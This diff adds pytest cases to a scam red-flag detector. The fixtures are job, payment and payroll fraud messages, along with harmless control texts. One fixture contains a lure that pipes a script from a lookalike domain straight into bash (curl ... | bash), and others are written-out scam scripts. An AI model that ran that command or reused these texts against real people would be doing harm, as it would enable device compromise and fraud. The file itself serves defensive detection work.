@@ -2023,3 +2023,96 @@ def test_a_client_keeping_everything_on_the_platform_may_build_a_chat_bot():
 def test_like_before_every_or_other_compares_and_asks_for_no_likes():
     text = "Our channel posts three shorts a week, like every other channel. DM me."
     assert "F11" not in {hit.flag for hit in find_red_flags(text)}
+
+
+@pytest.mark.parametrize(
+    ("text", "family"),
+    [
+        # a cheque that "clears", then the vendor is paid his share
+        (
+            "I found your number on the babysitting board. I'm abroad until May, so I'll mail "
+            "a cashier's check today. When the check clears in your account, please pay the "
+            "furniture mover his share and keep $300 for your first week.",
+            "fake-cheque",
+        ),
+        # a take-home to run on the bare machine "or it can't be validated"
+        (
+            "Next step is the take-home. Clone the repo we invited you to, then run the "
+            "verify script directly on your laptop, not inside a VM, otherwise our grader "
+            "cannot validate the submission.",
+            "coding-test",
+        ),
+        # a "proctoring" extension installed from a file, with a lookalike address
+        (
+            "From: Assessments <exam@brightnode-assessment.com>\n\nPlease add our proctor "
+            "plugin before you begin: Extensions > Install from VSIX, pick proctor-2.1.vsix.",
+            "coding-test",
+        ),
+        # a terminal one-liner to "fix" the interview camera, from a lookalike address
+        (
+            "From: Talent <talent@orbweave-interview.com>\n\nYour camera failed in the "
+            "video interview. Fix: curl -s https://orbweave-interview.com/fix | bash",
+            "coding-test",
+        ),
+        # a company laptop at your home with a remote-access tool, the pay in your name
+        (
+            "Our engineers abroad need a US face. You receive the client's laptop at your "
+            "home address and install a remote-access tool on it; the contract is in your "
+            "name and you forward 75% to us each month.",
+            "account-renting",
+        ),
+        # a wallet connected to a site and a message signed before an interview
+        (
+            "Welcome to the server! Before your interview please connect your payout wallet "
+            'at https://guildhall-verify.top and sign the "member" message.',
+            "money-through-you",
+        ),
+        # payroll asked to pay an employee into a new account, from a personal address
+        (
+            "From: Lena Ortiz <lena.ortiz.work@gmail.com>\nTo: payroll@fernstack.io\n\n"
+            "Hi, please update my direct deposit to my new bank account starting with the "
+            "next pay run. Details below.",
+            "payroll-diversion",
+        ),
+    ],
+)
+def test_a_sixth_sets_forms_make_their_family(text, family):
+    hits = find_red_flags(text)
+    assert family in {hit.flag for hit in hits}
+    assert risk_level(hits) == Risk.HIGH
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        # a sugar-daddy "allowance" whose first payment comes by cheque
+        "hey cutie, I'm a surgeon always on the road. I'll pay a $900 weekly allowance just "
+        "to chat, first payment by mobile cheque tomorrow.",
+        # a licence bought from the client's reseller before the repo is shared
+        "Every contractor needs a seat in our tracker. Buy the $89 licence from our "
+        "reseller at the link and send me the receipt; I'll add it to milestone one.",
+        # likes for pay, handed on to a supervisor on a chat app, in Spanish
+        "Hola, buscamos gente para seguir cuentas de Instagram y dar me gusta, 2€ por cada "
+        "uno. Te paso con mi supervisor en WhatsApp.",
+    ],
+)
+def test_an_allowance_cheque_a_reseller_licence_and_likes_handed_on_are_high(text):
+    assert risk_level(find_red_flags(text)) == Risk.HIGH
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        # a home-office budget spent at any shop and paid back through payroll
+        "Your $400 desk budget: buy what you need with your own card from any retailer. "
+        "Claims go in the HR portal and are paid back with your next payroll.",
+        # a contributor guide that runs its tests in a container
+        "To run the test suite, clone the repository and run `make test`; it builds a "
+        "Docker container so nothing touches your machine.",
+        # an employee updating bank details through the HR portal
+        "Reminder: to change where your salary is paid, update your bank account in the HR "
+        "portal before the 20th; payroll cannot take changes by e-mail.",
+    ],
+)
+def test_a_desk_budget_a_containerised_test_run_and_the_hr_portal_stay_below_medium(text):
+    assert risk_level(find_red_flags(text)) < Risk.MEDIUM
